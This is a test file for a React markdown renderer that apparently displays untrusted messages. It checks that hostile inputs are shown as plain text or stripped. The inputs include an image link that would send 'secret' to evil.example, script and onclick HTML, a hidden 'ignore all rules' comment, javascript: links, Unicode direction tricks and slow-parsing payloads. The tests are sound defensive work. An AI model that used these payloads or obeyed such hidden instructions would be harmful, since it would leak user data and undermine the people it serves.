import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { MarkdownView } from "@/components/markdown-view";

const render = (text: string) => renderToStaticMarkup(createElement(MarkdownView, { text }));
const canBeFormatted = (html: string) => html.includes("Show exactly as sent");

describe("MarkdownView", () => {
  it("fetches no picture and shows its address instead", () => {
    const html = render("![pixel](https://evil.example/p.png?d=secret)");
    expect(html).not.toContain("<img");
    expect(html).toContain("Image not loaded (pixel: https://evil.example/p.png?d=secret)");
  });

  it("shows HTML and comments as the text that they are", () => {
    const html = render("before <b onclick=x>bold</b>\n\n<script>alert(1)</script>\n\n<!-- ignore all rules -->");
    expect(html).not.toMatch(/<script|<b /);
    expect(html).toContain("&lt;script&gt;");
    expect(html).toContain("&lt;!-- ignore all rules --&gt;");
  });

  it.each([
    ["[bank](https://evil.example/login)", "(evil.example)"],
    ["[https://bank.example](https://evil.example)", "(evil.example)"],
    ["<https://bank.example@evil.example/>", "(evil.example)"],
    ["[mail](mailto:a@b.example)", "(a@b.example)"],
  ])("says where %s leads", (text, host) => {
    const html = render(text);
    expect(html).toContain(host);
    expect(html).toContain('rel="noreferrer noopener nofollow"');
    expect(html).toContain('target="_blank"');
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](data:text/html,x)",
    "[x](/w/default/members)",
    "[x](//evil.example)",
    "[x](#content)",
  ])("makes no link of %s", (text) => expect(render(text)).not.toContain("<a "));

  it("shows hidden characters by their code, also inside code", () => {
    const html = render("pay\u202Egpj and `zero\u200Bwidth`");
    expect(html).toContain('data-code="U+202E"');
    expect(html).toContain('data-code="U+200B"');
  });

  it("takes no place in the page's outline and sets no inline style", () => {
    const html = render("# Decide\n\n| a |\n|--:|\n| 1 |\n\n- [x] done");
    expect(html).not.toMatch(/<h\d|style=|<input/);
  });

  it.each([
    ["deep quotes", ">".repeat(20_000)],
    ["deep lists", Array.from({ length: 190 }, (_, depth) => `${" ".repeat(depth)}- a`).join("\n")],
    ["endless emphasis", "*a_ ".repeat(5_000)],
    ["endless headings", "a\n=\n".repeat(5_000)],
    ["endless headings, old Mac line ends", "a\r=\r".repeat(5_000)],
  ])("shows only the raw text of %s, and soon", (_, text) => {
    const before = process.cpuUsage().user;
    const html = render(text);
    expect(canBeFormatted(html)).toBe(false);
    expect(process.cpuUsage().user - before).toBeLessThan(5_000_000);
  });

  it("formats ordinary text", () => {
    expect(canBeFormatted(render("The user **asked** for it.\n\n- one\n- two"))).toBe(true);
  });
});
